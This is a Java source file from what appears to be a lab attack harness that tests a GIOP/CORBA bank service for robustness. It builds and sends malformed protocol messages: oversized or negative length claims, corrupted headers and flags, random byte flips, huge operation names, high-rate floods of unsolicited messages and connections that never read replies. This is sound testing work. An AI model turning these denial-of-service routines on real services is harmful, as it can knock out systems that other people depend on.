package org.amo.lab.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Random;

/** Sends GIOP messages with wrong headers, lengths, versions and kinds. */
final class GiopAttacks {
    private static final int MEGABYTE = 1 << 20;
    private static final int LONG_NAME = 100_000;
    private static final int LARGE = 8 * MEGABYTE;

    private GiopAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.onBank(
                        "length-12mb",
                        "1,000 connections, each with a header that claims 12 MB",
                        (target, pace) -> claims(target, pace, 12 * MEGABYTE)),
                Attack.onBank(
                        "length-232mb",
                        "1,000 connections, each with a header that claims 232 MB, 2^31 - 1, 2^31 or 2^32 - 1 bytes",
                        (target, pace) ->
                                claims(target, pace, 232 * MEGABYTE, Integer.MAX_VALUE, Integer.MIN_VALUE, -1)),
                Attack.onBank(
                        "length-inside",
                        "requests with a key, operation, contexts or arguments of a claimed length of 0, negative or huge, 300 a second",
                        GiopAttacks::inside),
                Attack.onBank(
                        "long-operation",
                        "requests with an operation name of 100,000 characters or an object key of 1 MB, 20 a second",
                        GiopAttacks::longNames),
                Attack.onBank("large-requests", "40 requests of 8 MB, four at a time", GiopAttacks::large),
                Attack.onBank(
                        "odd-headers",
                        "wrong magic, versions, byte orders, flags and kinds, and no byte behind the header, 500 a second",
                        GiopAttacks::headers),
                Attack.onBank(
                                "flipped-bytes",
                                "requests of the right form with some bytes changed at random, 300 a second",
                                GiopAttacks::flipped)
                        .thatLeaves("accounts with changed names, so that a reply with all balances is long"),
                Attack.onBank(
                        "response-flags",
                        "requests with response flags that GIOP does not have, 300 a second",
                        GiopAttacks::responseFlags),
                Attack.onBank(
                        "odd-messages",
                        "LocateRequests for known and unknown keys, CancelRequests, Replies, CloseConnection and MessageError of no"
                                + " request, 2,000 a second",
                        (target, pace) -> flood(target, pace, 2_000, GiopAttacks::unasked)),
                Attack.onBank(
                        "unknown-targets",
                        "requests for unknown operations and objects, 500 a second",
                        (target, pace) -> flood(target, pace, 500, GiopAttacks::unknownTarget)),
                Attack.onBank(
                        "status-flood",
                        "requests for the status, 1,000 a second",
                        (target, pace) -> flood(
                                target,
                                pace,
                                1_000,
                                (key, i) -> Giop.request(
                                        i,
                                        "AmoStatus".getBytes(java.nio.charset.StandardCharsets.US_ASCII),
                                        "status",
                                        out -> {}))),
                Attack.onBank(
                        "unread-replies",
                        "30 connections ask for all balances, 300 a second, and read no reply",
                        GiopAttacks::unread));
    }

    /** One message of a flood. */
    @FunctionalInterface
    interface Message {
        byte[] of(byte[] key, int index);
    }

    private static void claims(Target target, AttackRate pace, int... sizes) throws InterruptedException {
        pace.crew(4, 1_000, 400, i -> target.client(i)
                .send(Giop.header(1, 2, 0, Giop.REQUEST, sizes[i % sizes.length]))
                .send(new byte[100]));
        pace.hold();
    }

    private static void inside(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] key = Giop.objectKey(target.reference());
        int[] claims = {0, -1, 1, Integer.MAX_VALUE, Integer.MIN_VALUE, 12 * MEGABYTE, 1 << 16};
        byte[] whole = Giop.request(
                1, key, "deposit", List.of(new Giop.Context(0x1234, new byte[8])), RawClient.deposit(target.account()));
        // The key's length, the operation's, the number of contexts, a context's length, the account's length.
        int operation = align(Giop.HEADER + 12 + 4 + key.length);
        int contexts = align(operation + 4 + "deposit".length() + 1);
        int[] places = {Giop.HEADER + 12, operation, contexts, contexts + 8, align8(contexts + 4 + 8 + 8)};
        pace.crew(2, Integer.MAX_VALUE, 300, i -> {
            byte[] bytes = whole.clone();
            ByteBuffer.wrap(bytes).putInt(places[i % places.length], claims[i / places.length % claims.length]);
            alone(target, i, bytes);
        });
    }

    private static int align(int at) {
        return at + 3 & -4;
    }

    private static int align8(int at) {
        return at + 7 & -8;
    }

    private static void longNames(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] operation = Giop.request(1, Giop.objectKey(target.reference()), "x".repeat(LONG_NAME), out -> {});
        byte[] key = Giop.request(1, new byte[MEGABYTE], "deposit", RawClient.deposit(target.account()));
        pace.each(Integer.MAX_VALUE, 20, i -> {
            try (Wire wire = target.client(i / 2).send(i % 2 == 0 ? operation : key)) {
                Giop.readReply(wire.in());
            }
        });
    }

    private static void large(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] key = Giop.objectKey(target.reference());
        byte[] request = Giop.request(
                1, key, "deposit", out -> out.string("x".repeat(LARGE)).longLong(-1));
        pace.crew(4, 40, 20, i -> {
            try (Wire wire = target.client(i).send(request)) {
                Giop.readReply(wire.in());
            }
        });
        pace.hold();
    }

    private static void headers(Target target, AttackRate pace) throws IOException, InterruptedException {
        Random random = target.random();
        byte[] whole = Giop.request(1, Giop.objectKey(target.reference()), "name", out -> {});
        pace.crew(2, Integer.MAX_VALUE, 500, i -> {
            byte[] bytes = i % 4 == 3 ? Giop.header(1, i / 4 % 3, 0, i / 4 % 8, 0) : whole.clone();
            if (bytes.length == whole.length) {
                bytes[i % 8] = (byte) random.nextInt(256);
            }
            alone(target, i, bytes);
        });
    }

    private static void responseFlags(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] whole = Giop.request(1, Giop.objectKey(target.reference()), "name", out -> {});
        pace.crew(2, Integer.MAX_VALUE, 300, i -> {
            byte[] bytes = whole.clone();
            bytes[Giop.HEADER + 4] = (byte) (4 + i % 252);
            alone(target, i, bytes);
        });
    }

    private static void flipped(Target target, AttackRate pace) throws IOException, InterruptedException {
        Random random = target.random();
        byte[] key = Giop.objectKey(target.reference());
        pace.each(Integer.MAX_VALUE, 300, i -> {
            byte[] bytes = Giop.request(
                    i,
                    key,
                    "deposit",
                    List.of(new Giop.Context(1, new byte[] {0, 0, 0, 0, 0, 1, 0, 1})),
                    RawClient.deposit(target.account()));
            for (int change = random.nextInt(6); change >= 0; change--) {
                bytes[Giop.HEADER + random.nextInt(bytes.length - Giop.HEADER)] = (byte) random.nextInt(256);
            }
            alone(target, i, bytes);
        });
    }

    /** Sends a message over a connection of its own; replies are read and discarded. */
    private static void alone(Target target, int member, byte[] bytes) throws IOException {
        try (Wire wire = target.client(member)) {
            wire.send(bytes);
            wire.drain();
        }
    }

    /** Sends a stream of messages over each of twelve connections; replies are read and discarded. */
    static void flood(Target target, AttackRate pace, double perSecond, Message message)
            throws IOException, InterruptedException {
        flood(target, pace, Giop.objectKey(target.reference()), perSecond, message);
    }

    static void flood(Target target, AttackRate pace, byte[] key, double perSecond, Message message)
            throws InterruptedException {
        flood(target, pace, key, Integer.MAX_VALUE, perSecond, message);
    }

    /** @param most messages in all */
    static void flood(Target target, AttackRate pace, byte[] key, long most, double perSecond, Message message)
            throws InterruptedException {
        Wire[] wires = new Wire[12];
        pace.crew(3, most, perSecond, i -> {
            int at = i % wires.length;
            Wire wire = wires[at];
            if (wire == null) {
                wire = target.client(at);
                wires[at] = wire;
            }
            try {
                wire.send(message.of(key, i));
                wire.drain();
            } catch (IOException e) {
                wires[at] = null;
                wire.close();
                throw e;
            }
        });
    }

    /** Unsolicited messages: a few end the connection, most do not. */
    private static byte[] unasked(byte[] key, int index) {
        int kind = index / 12 % 40;
        if (kind == 0) {
            return Giop.message(index % 2 == 0 ? Giop.CLOSE_CONNECTION : Giop.MESSAGE_ERROR, false, out -> {});
        }
        if (kind % 4 == 0) {
            return Giop.message(
                    Giop.REPLY, false, out -> out.uLong(index).uLong(0).uLong(0));
        }
        if (kind % 2 == 0) {
            return Giop.message(Giop.CANCEL_REQUEST, false, out -> out.uLong(index));
        }
        byte[] wanted = kind % 4 == 1 ? key : unknown(key, index);
        return Giop.message(
                Giop.LOCATE_REQUEST, false, out -> out.uLong(index).uShort(0).octets(wanted));
    }

    private static byte[] unknownTarget(byte[] key, int index) {
        return index % 2 == 0
                ? Giop.request(index, key, "noSuchOperation" + index % 100, out -> {})
                : Giop.request(index, unknown(key, index), "name", out -> {});
    }

    private static byte[] unknown(byte[] key, int index) {
        byte[] unknown = key.clone();
        int at = Math.floorMod(index, unknown.length);
        unknown[at] = (byte) (unknown[at] ^ 1 + index % 100);
        return unknown;
    }

    private static void unread(Target target, AttackRate pace) throws IOException, InterruptedException {
        byte[] key = Giop.objectKey(target.reference());
        Wire[] wires = new Wire[30];
        pace.crew(wires.length, Integer.MAX_VALUE, 300, i -> {
            int at = i % wires.length;
            if (wires[at] == null) {
                wires[at] = target.client(at);
            }
            try {
                wires[at].send(Giop.request(i, key, "balances", out -> {}));
            } catch (IOException e) {
                // Without another one the attack would be over with the first connections that the members end.
                wires[at].close();
                wires[at] = null;
                throw e;
            }
        });
    }
}
